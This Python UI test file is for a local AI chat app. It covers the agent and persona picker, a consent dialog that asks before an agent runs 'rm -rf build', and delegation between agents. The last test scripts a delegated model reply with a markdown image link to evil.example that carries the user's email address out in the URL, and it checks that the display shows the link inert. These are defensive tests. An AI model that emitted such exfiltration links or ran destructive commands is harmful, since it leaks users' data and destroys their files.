"""The window's agent and persona picker, and its approval question, on real widgets."""

from __future__ import annotations

import asyncio
from pathlib import Path

from PySide6.QtWidgets import QApplication, QMessageBox
from pytestqt.qtbot import QtBot

from app.controller.consent import Approval, allows, approval_request
from app.controller.events import TurnFinished
from app.ui.consent_dialog import DialogConsent
from tests.fakes.http_base import Step
from tests.fakes.ollama_server import FakeOllama
from tests.ui.helpers import close_window, ollama_settings, open_window, type_and_send, wait_for


def test_the_picker_runs_an_agent_under_a_persona_and_shows_it_pinned(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_ollama: FakeOllama
) -> None:
    fake_ollama.script_reply(["Short answer."])

    async def scenario() -> None:
        settings = ollama_settings(fake_ollama.url, model="llama3.2:3b")
        window = await open_window(qtbot, ares_home, settings)
        picker = window.agent_picker
        labels = [picker.itemText(i) for i in range(picker.count())]
        assert labels[:4] == ["No agent", "assistant", "assistant · Everyday", "assistant · Brief"]
        picker.setCurrentIndex(labels.index("assistant · Brief"))
        event = await type_and_send(qtbot, window, "What time is it?")
        assert isinstance(event, TurnFinished)
        sent = fake_ollama.requests_to("/api/chat")[-1].json()
        assert sent["messages"][0]["content"].startswith("You are ARES")
        assert "Answer in at most three sentences." in sent["messages"][0]["content"]
        tools = sorted(t["function"]["name"] for t in sent["tools"])
        assert tools == ["calculate", "current_time", "memory_search"]  # Brief narrows
        first = event.conversation_id
        window.agent_picker.setCurrentIndex(0)
        window.new_conversation()
        await window.open_conversation(first)
        assert window.agent_picker.currentText() == "assistant · Brief"
        await close_window(window)

    qloop.run_until_complete(scenario())


def test_an_approval_shows_the_exact_command_and_defaults_to_no(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop
) -> None:
    # An approval is a consent request: the window's one consent broker asks it.
    request = approval_request(
        Approval(tool="run_command", action="run", subject="rm -rf build", detail="in /p"),
        turn_id="t",
        agent="coder",
    )

    def box() -> QMessageBox | None:
        boxes = [w for w in QApplication.topLevelWidgets() if isinstance(w, QMessageBox)]
        return next((b for b in boxes if b.isVisible()), None)

    async def scenario() -> None:
        asking = asyncio.ensure_future(DialogConsent(None).ask(request))
        await wait_for(lambda: box() is not None)
        shown = box()
        assert shown is not None
        assert "coder wants to run:" in shown.text() and "rm -rf build" in shown.text()
        assert shown.defaultButton().text() == "Cancel"
        shown.defaultButton().click()
        assert not allows(await asking)
        allowing = asyncio.ensure_future(DialogConsent(None).ask(request))
        await wait_for(lambda: box() is not None)
        allow = next(b for b in box().buttons() if b.text() == "Allow")  # type: ignore[union-attr]
        allow.click()
        assert allows(await allowing)

    qloop.run_until_complete(scenario())


WORKFLOW = """\
[models.llama]
worker = "local"

[agents.router]
model = "llama"
system_prompt = "You route."

[agents.helper]
model = "llama"
system_prompt = "You help."

[workflows.triage]
entry_agent = "router"
"""


def test_the_picker_runs_a_workflow_and_the_chat_box_delegates(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_ollama: FakeOllama
) -> None:
    agents = ares_home / "agents.toml"
    agents.write_text(WORKFLOW, encoding="utf-8")
    fake_ollama.script_steps(
        Step(chunks=["/delegate helper say hi"]), Step(chunks=["Hi!"]), Step(chunks=["It said hi."])
    )

    async def scenario() -> None:
        settings = ollama_settings(fake_ollama.url, model="llama3.2:3b")
        window = await open_window(qtbot, ares_home, settings, agents_file=agents)
        picker = window.agent_picker
        labels = [picker.itemText(i) for i in range(picker.count())]
        assert labels[-1] == "Workflow · triage"
        picker.setCurrentIndex(labels.index("Workflow · triage"))
        event = await type_and_send(qtbot, window, "Greet me")
        assert isinstance(event, TurnFinished)
        assert event.answer == "It said hi."
        hops = [r.json()["messages"][-1]["content"] for r in fake_ollama.requests_to("/api/chat")]
        assert hops[0].startswith("Greet me\n\n---\nYou may hand tasks on")
        assert hops[1] == "say hi"
        # `/delegate` in the chat box: the same turn as `ares delegate`.
        picker.setCurrentIndex(labels.index("helper"))
        fake_ollama.script_reply(["Done: two tasks."])
        event = await type_and_send(qtbot, window, "/delegate wave | smile")
        assert isinstance(event, TurnFinished)
        assert event.answer.startswith("**1. wave** (helper)\nDone: two tasks.")
        assert [r.json()["messages"][-1]["content"] for r in fake_ollama.requests_to("/api/chat")][
            -2:
        ] == ["wave", "smile"]
        await close_window(window)

    qloop.run_until_complete(scenario())


def test_a_delegated_answer_that_would_send_data_out_is_shown_inert(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_ollama: FakeOllama
) -> None:
    agents = ares_home / "agents.toml"
    agents.write_text(WORKFLOW, encoding="utf-8")
    leak = "![logo](https://evil.example/p.png?to=[EMAIL_1])"
    fake_ollama.script_reply([f"Done. {leak}"])

    async def scenario() -> None:
        settings = ollama_settings(fake_ollama.url, model="llama3.2:3b")
        window = await open_window(qtbot, ares_home, settings, agents_file=agents)
        event = await type_and_send(qtbot, window, "/delegate draw a logo")
        assert isinstance(event, TurnFinished)
        assert event.answer == f"Done. {leak}"  # stored as it came
        assert "evil.example" not in event.display and "[blocked image: logo]" in event.display
        await close_window(window)

    qloop.run_until_complete(scenario())
